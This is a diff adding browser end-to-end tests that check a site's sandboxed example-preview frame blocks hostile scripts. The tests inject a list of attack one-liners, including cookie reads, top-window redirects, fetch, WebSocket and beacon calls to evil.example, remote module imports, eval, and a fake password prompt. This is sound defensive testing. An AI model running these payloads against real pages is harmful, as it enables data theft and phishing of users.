@@ -1,0 +1,98 @@
+import { expect, test } from './reader'
+
+const example = '/query/latest/docs/framework/react/examples/basic'
+const frameAddress = '/frames/example/query/latest/react/basic'
+
+/** What a hostile example may try. Each is a script in the place of the example's own, with all that it was allowed. */
+const attacks = {
+  'read cookies': 'document.cookie',
+  'read the page around it': 'parent.document.title',
+  'change the page around it': "parent.location.hash = '#taken'",
+  'lead the window elsewhere': "top.location = 'https://evil.example/'",
+  'lead the window elsewhere by a link':
+    "const a = Object.assign(document.createElement('a'), { href: 'https://evil.example/', target: '_top' }); document.body.append(a); a.click(); throw 0",
+  'open a window': "if (!open('https://evil.example/')) throw 0",
+  'ask the site': "await fetch('/api/health')",
+  'ask another site': "await fetch('https://evil.example/')",
+  'ask by a socket':
+    "await new Promise((ok, no) => Object.assign(new WebSocket('wss://evil.example/'), { onopen: ok, onerror: no }))",
+  'ask by an image':
+    "await new Promise((ok, no) => Object.assign(new Image(), { onload: ok, onerror: no }).src = '/favicon.ico')",
+  // Whether it left the frame is seen from outside.
+  'send a beacon': "navigator.sendBeacon('https://evil.example/'); throw 0",
+  'load a script':
+    "await new Promise((ok, no) => document.head.append(Object.assign(document.createElement('script'), { src: '/_build/x.js', onload: ok, onerror: no })))",
+  'import a module': "await import('https://evil.example/x.js')",
+  'import a module of a text': "await import('data:text/javascript,export default 1')",
+  'make code of a text': "(0, eval)('1')",
+  'make a function of a text': "new Function('1')()",
+  'compile WebAssembly': 'await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
+  'start workers':
+    "await new Promise((ok, no) => Object.assign(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), { onmessage: ok, onerror: no }))",
+  'register a service worker': "await navigator.serviceWorker.register('/sw.js')",
+  'open a database':
+    "await new Promise((ok, no) => Object.assign(indexedDB.open('x'), { onsuccess: ok, onerror: no }))",
+  'open the cache': "await caches.open('x')",
+  'frame another site':
+    "const f = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/frame' }); document.body.append(f); await new Promise((ok) => setTimeout(ok, 300)); throw 0",
+  'show a dialog': "if (!confirm('Your password?')) throw 0",
+  'read the clipboard': 'await navigator.clipboard.readText()',
+  'find the place': 'await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))',
+}
+
+test.describe('a hostile example', () => {
+  // What the browser refuses it says on the console.
+  test.use({ expectedMessages: [/./] })
+
+  test('reaches nothing outside its frame', async ({ page }) => {
+    const tries = Object.entries(attacks).map(
+      ([name, code]) => `await attempt(${JSON.stringify(name)}, async () => { ${code} });`,
+    )
+    const script = `(async () => {
+    const attempt = async (name, act) => {
+      const late = new Promise((_, refuse) => setTimeout(refuse, 1500))
+      await Promise.race([act(), late]).then(() => console.error('REACHED ' + name), () => {})
+    }
+    ${tries.join('\n')}
+    document.body.dataset.done = ''
+  })()`
+    const asked: string[] = []
+    // The browser names a request that the policy refuses, which never leaves it.
+    page.on('requestfinished', (request) => asked.push(request.url()))
+    page.on('requestfailed', (request) => {
+      if (request.failure()?.errorText !== 'csp') asked.push(request.url())
+    })
+    await page.route(`**${frameAddress}`, async (route) => {
+      const response = await route.fetch()
+      const [head] = (await response.text()).split('<body>')
+      await route.fulfill({ response, body: `${head}<body><script>${script}</script></body></html>` })
+    })
+    await page.goto(`${example}?panel=preview`)
+    const frame = page.frameLocator('iframe[title="Preview"]')
+    await expect(frame.locator('body[data-done]')).toBeAttached({ timeout: 25_000 })
+    expect(
+      await frame.locator('#S--console [data-kind="error"]', { hasText: 'REACHED' }).allTextContents(),
+    ).toEqual([])
+    const blocked = page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective))
+        }),
+    )
+    await frame.locator('body').evaluate(() => setTimeout(() => location.assign('https://evil.example/')))
+    expect(await blocked).toBe('frame-src')
+    expect(page.url()).toContain(`${example}?panel=preview`)
+    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
+  })
+})
+
+test('an example runs, reloads and stops, with its own files and no script of the page', async ({ page }) => {
+  await page.goto(example)
+  await page.getByRole('link', { name: 'Preview', exact: true }).click()
+  const frame = page.frameLocator('iframe[title="Preview"]')
+  await expect(frame.getByRole('heading', { name: 'Posts' })).toBeVisible()
+  await page.getByRole('link', { name: 'Stop' }).click()
+  await expect(frame.getByRole('heading', { name: 'Posts' })).toHaveCount(0)
+  await page.getByRole('link', { name: 'Reload' }).click()
+  await expect(frame.getByRole('heading', { name: 'Posts' })).toBeVisible()
+})
